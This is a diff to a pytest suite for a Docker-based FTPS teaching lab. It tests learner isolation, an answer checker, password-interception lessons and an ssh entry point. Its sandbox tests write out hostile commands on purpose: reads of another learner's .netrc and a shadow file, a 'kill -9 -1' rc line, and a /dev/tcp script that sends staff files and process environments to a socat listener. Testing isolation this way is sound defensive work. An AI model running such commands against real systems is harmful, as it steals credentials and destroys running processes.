@@ -13,6 +13,7 @@ import shlex
 import shutil
 import socket
 import subprocess
+import tempfile
 import time
 import uuid
 from dataclasses import dataclass, field
@@ -31,7 +32,10 @@ if TYPE_CHECKING:
 ROOT = Path(__file__).parents[3]
 LESSONS = (ROOT / "docs/classroom.md").read_text()
 
-ANSWER_SECONDS = 60
+LEARNERS = ("anna", "ben", "carla")
+"""The class of the document."""
+
+ANSWER_SECONDS = 120
 BUILD_SECONDS = 900
 TOLD_SECONDS = 20
 """A host looks once in a second; nobody waits longer for what it tells."""
@@ -97,7 +101,12 @@ class Classroom:
         self.project = f"ftps-lab-test-{uuid.uuid4().hex[:8]}"
         self._compose = compose
         # Images of their own: a test takes no teacher's away. They stay, as what the next test's are made from.
-        self._environment = {**os.environ, "COMPOSE_PROJECT_NAME": self.project, "CLASSROOM_TAG": "test"}
+        self._environment = {
+            **os.environ,
+            "COMPOSE_PROJECT_NAME": self.project,
+            "CLASSROOM_TAG": "test",
+            "FTPS_LAB_LEARNERS": " ".join(LEARNERS),
+        }
 
     def compose(self, *arguments: str, timeout: float = ANSWER_SECONDS, stdin: str = "") -> tuple[int, str, str]:
         """Exit code, output and errors."""
@@ -113,17 +122,28 @@ class Classroom:
         )
         return done.returncode, done.stdout, done.stderr
 
+    def also(self, **variables: str) -> None:
+        """Further variables of the environment."""
+        self._environment |= variables
+
     def must(self, *arguments: str, **more: Any) -> str:
         """Its output, of a command that works."""
         code, output, errors = self.compose(*arguments, **more)
         assert code == 0, f"{shlex.join(arguments)}: exit code {code}\n{output}\n{errors}"
         return output
 
+    def learner(self, name: str) -> contextlib.AbstractContextManager[Student]:
+        """A learner's shell in the class, as one of many terminals."""
+        return self._shell("exec", "-T", "class", "enter", name, "bash", "-c", "cd ~/.lftp && exec bash")
+
+    def student(self, service: str = "student") -> contextlib.AbstractContextManager[Student]:
+        """A learner's shell in a container of its own."""
+        return self._shell("run", "--rm", "-T", service, "bash")
+
     @contextlib.contextmanager
-    def student(self, service: str = "student") -> Iterator[Student]:
-        """A learner's shell."""
+    def _shell(self, *arguments: str) -> Iterator[Student]:
         process = subprocess.Popen(
-            [*self._compose, "run", "--rm", "-T", service, "bash"],
+            [*self._compose, *arguments],
             cwd=ROOT,
             env=self._environment,
             stdin=subprocess.PIPE,
@@ -142,7 +162,7 @@ class Classroom:
         """What is typed beside the learners: `docker compose …`, whichever Compose there is."""
         words = shlex.split(command)
         assert words[:2] == ["docker", "compose"], command
-        unattended = {"exec": ["-T"], "logs": ["--no-color"]}[words[2]]
+        unattended = {"exec": ["-T"], "logs": ["--no-color"], "run": ["-T"]}[words[2]]
         return self.must(words[2], *unattended, *words[3:])
 
     def has_openssl(self) -> bool:
@@ -237,12 +257,16 @@ def test_what_is_shown_is_all_that_may_come(shown: list[str], output: str, fits:
 @pytest.mark.lftp
 def test_the_classroom(classroom: Classroom) -> None:
     classroom.must("build", "example", timeout=BUILD_SECONDS)
-    classroom.must("build", "student", "student-bullseye", timeout=BUILD_SECONDS)
+    classroom.must("build", "class", "checker", "student", "student-bullseye", timeout=BUILD_SECONDS)
     classroom.must("up", "-d")
-    with classroom.student() as student:
+    with classroom.student() as student, classroom.learner("anna") as anna:
         prove_rights(classroom)
         prove_sealed(classroom, student)
-        teach(classroom, student)
+        prove_apart(classroom, anna)
+        teach(classroom, anna)
+        prove_window(classroom)
+        prove_check(classroom, anna)
+    prove_ssh(classroom)
     with classroom.student("student-bullseye") as student:
         teach_the_document(student)
     if classroom.has_openssl():
@@ -265,7 +289,7 @@ def test_the_classroom(classroom: Classroom) -> None:
 def prove_rights(classroom: Classroom) -> None:
     """No way in, and no more rights than needed: what the engine says."""
     found = classroom.inspected()
-    assert set(found) == {*HOSTS, "student"}
+    assert set(found) == {*HOSTS, "student", "class", "checker"}
     for name, container in found.items():
         host = container["HostConfig"]
         assert host["ReadonlyRootfs"], name
@@ -275,8 +299,9 @@ def prove_rights(classroom: Classroom) -> None:
         assert not host["PortBindings"], name
         assert not any(container["NetworkSettings"]["Ports"].values()), name
         assert len(container["NetworkSettings"]["Networks"]) == 1, name
-        assert (container["Config"]["User"] == "root") is (name == "vsftpd"), name
-        if name != "student":
+        as_root = {"vsftpd": "root", "class": "", "checker": ""}  # the images of these two name no user
+        assert (container["Config"]["User"] in {"root", ""}) is (name in as_root), name
+        if name not in {"student", "checker"}:
             assert container["State"]["Health"]["Status"] == "healthy", name
 
 
@@ -295,6 +320,149 @@ def prove_sealed(classroom: Classroom, student: Student) -> None:
     began = time.monotonic()
     assert "open: exmaple.com: " in student.type("lftp -e 'ls; exit' exmaple.com")
     assert time.monotonic() - began < 10, "a mistyped name keeps a learner waiting"
+
+
+def prove_apart(classroom: Classroom, anna: Student) -> None:
+    """One learner sees and breaks nothing of another's, and nobody learns what is the staff's."""
+    assert anna.type("id -un; id -G") == "anna\n2000\n"
+    assert "Permission denied" in anna.type("cat /home/ben/.netrc")
+    assert "Permission denied" in anna.type("ls /staff")
+    assert "Permission denied" in anna.type("cat /staff/learners.tsv /var/lib/extrausers/shadow")
+    anna.type("lftp -e 'set ftp:ssl-allow no; rm -r backup welcome.txt; exit' example.com")
+    with classroom.learner("ben") as ben:
+        assert "welcome.txt" in ben.type("lftp -e 'set ftp:ssl-allow no; ls; exit' example.com")
+    listed = "lftp -e 'set ftp:ssl-allow no; ls; exit' example.com"
+    assert "welcome.txt" not in anna.type(listed)
+    classroom.must("run", "--rm", "-T", "teacher", "reset", "anna")
+    assert "welcome.txt" in anna.type(listed)
+    code, _, said = classroom.compose("run", "--rm", "-T", "teacher", "reset", "dora")
+    assert code == 1
+    assert "no learner is named dora" in said
+
+
+def prove_window(classroom: Classroom) -> None:
+    """After the lessons the window holds anna's own password, against her name, and nobody else's."""
+    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
+    passwords = {line.split()[0]: line.split()[1] for line in slips}
+    assert tuple(passwords) == LEARNERS
+    lines = classroom.must("run", "--rm", "-T", "teacher").splitlines()
+    (row,) = (line for line in lines if line.startswith("anna "))
+    assert row.endswith(passwords["anna"])
+    (unseen,) = (line for line in lines if line.startswith("carla "))
+    assert unseen.split() == ["carla", "-"]
+    assert max(map(len, lines)) <= 80
+    story = classroom.must("run", "--rm", "-T", "teacher", "window", "anna")
+    assert re.search(r" intercepted +TLS +password captured +" + passwords["anna"], story)
+    assert re.search(r" stripped +CLEAR +password captured +" + passwords["anna"], story)
+    assert re.search(r" mismatched +TLS +left before the login", story), "a refusal, of whom ident names"
+
+
+def prove_check(classroom: Classroom, anna: Student) -> None:
+    """What a learner may try, and what is down: never solved."""
+    solved = anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc; check 3; echo $?")
+    assert solved.endswith("solved\n0\n"), solved
+    anna.type("echo 'set ssl:verify-certificate no' >rc; mkdir -p ~/bin; cp /bin/true ~/bin/lftp")
+    cheat = "PATH=~/bin:$PATH; lftp() { true; }; alias lftp=true; check 3; echo $?"
+    assert anna.type(cheat).endswith("not solved\n1\n")
+    prove_caged(classroom, anna)
+    anna.type("echo '!kill -9 -1' >rc")
+    assert anna.type("check 3; echo $?").splitlines()[-1] != "0"
+    anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc")
+    classroom.must("stop", "example")
+    down = anna.type("check 3; echo $?")
+    assert down.endswith("\nnot judged\ncheck: nothing is judged; try again, or tell the teacher\n3\n"), down
+    classroom.must("start", "example")
+    classroom.must("stop", "checker")
+    assert anna.type("check 3; echo $?").endswith("tell the teacher (docker compose ps)\n3\n")
+    classroom.must("start", "checker")
+
+
+def prove_caged(classroom: Classroom, anna: Student) -> None:
+    """An rc may run programs in the checker, and what they can reach there is sent to anna: nothing of the staff's."""
+    anna.type("socat -u TCP-LISTEN:5555,reuseaddr OPEN:/tmp/stolen,creat,append 2>/dev/null & sleep 1")
+    thief = "exec 3<>/dev/tcp/class/5555; { id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >&3 2>&3"
+    anna.type(f"printf '%s\\n' {shlex.quote(thief)} >~/steal; echo '!bash ~/steal' >rc")
+    anna.type("check 3")
+    stolen = anna.type("sleep 1; cat /tmp/stolen; rm -f /tmp/stolen ~/steal")
+    assert re.match(r"uid=300\d", stolen), stolen
+    assert "Permission denied" in stolen
+    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
+    secrets = [word for line in slips if not line.startswith("anna") for word in line.split()[1:]]
+    assert [word for word in secrets if word in stolen] == []
+    assert "PRIVATE KEY" not in stolen
+
+
+def prove_ssh(classroom: Classroom) -> None:
+    """A real ssh: with the slip's second password, to the host key that the teacher reads out, and no other way."""
+    if shutil.which("ssh") is None:
+        pytest.skip("no ssh here (Debian: apt install openssh-client)")
+    with socket.create_server(("127.0.0.1", 0)) as free:
+        port = free.getsockname()[1]
+    files = ["-f", "compose.yaml", "-f", "compose.ssh.yaml"]
+    code, _, said = classroom.compose(*files, "config", "-q")
+    assert code != 0
+    assert "name the address and port for ssh" in said
+    classroom.also(CLASSROOM_SSH=f"127.0.0.1:{port}")
+    classroom.must(*files, "up", "-d", "--no-recreate", "door", timeout=BUILD_SECONDS)
+    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
+    doors = {line.split()[0]: line.split()[2] for line in slips}
+    hosts = {line.split()[0]: line.split()[1] for line in slips}
+    read_out = re.findall(r"SHA256:\S+", classroom.must("logs", "--no-color", "class"))[-1]
+    with tempfile.TemporaryDirectory() as folder:
+        door = Door(Path(folder), port)
+        assert door.fingerprint() == read_out
+        told = door.ssh("ben", doors["ben"], "id -un; lftp -e 'ls; exit' example.com; check 3")
+        assert told.stdout.startswith("ben\n"), told
+        assert "Certificate verification" in told.stdout + told.stderr
+        assert told.stdout.endswith("not solved\n")
+        assert door.ssh("ben", hosts["ben"], "id").returncode == 255, "the captured password opens no shell"
+        assert door.ssh("root", doors["ben"], "id").returncode == 255
+        assert door.ssh("student", "classroom", "id").returncode == 255
+        forwarded = door.ssh("ben", doors["ben"], "", "-W", "example.com:21")
+        assert "220" not in forwarded.stdout, "ssh is no way to the hosts"
+    listening = subprocess.check_output(["docker", "port", f"{classroom.project}_door_1"], text=True)
+    assert listening.split(" -> ") == ["2222/tcp", f"127.0.0.1:{port}\n"]
+    classroom.must(*files, "rm", "-sf", "door")
+
+
+@dataclass
+class Door:
+    """The published port, and a real ssh."""
+
+    folder: Path
+    port: int
+
+    def fingerprint(self) -> str:
+        """Of the host key that the port shows; the first ssh takes it, as a learner does who has compared it."""
+        deadline = time.monotonic() + ANSWER_SECONDS
+        known = self.folder / "known_hosts"
+        while not (key := subprocess.run(self._scan, capture_output=True, text=True, check=False).stdout):
+            assert time.monotonic() < deadline, "the door does not answer"
+            time.sleep(0.5)
+        known.write_text(key)
+        return subprocess.check_output(["ssh-keygen", "-l", "-f", str(known)], text=True).split()[1]
+
+    @property
+    def _scan(self) -> list[str]:
+        return ["ssh-keyscan", "-t", "ed25519", "-p", str(self.port), "127.0.0.1"]
+
+    def ssh(self, user: str, password: str, command: str, *more: str) -> subprocess.CompletedProcess[str]:
+        """One command, or what `more` says, with this password."""
+        ask = self.folder / "ask"
+        ask.write_text(f"#!/bin/sh\necho {password}\n")
+        ask.chmod(0o700)
+        own = [f"UserKnownHostsFile={self.folder}/known_hosts", "StrictHostKeyChecking=yes", "PubkeyAuthentication=no"]
+        options = [word for option in own for word in ("-o", option)]
+        where = ["-F", "none", "-p", str(self.port), *options, *more, f"{user}@127.0.0.1"]
+        return subprocess.run(
+            ["ssh", *where, *([command] if command else [])],
+            env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"},
+            stdin=subprocess.DEVNULL,
+            capture_output=True,
+            text=True,
+            timeout=ANSWER_SECONDS,
+            check=False,
+        )
 
 
 def teach(classroom: Classroom, student: Student) -> None:
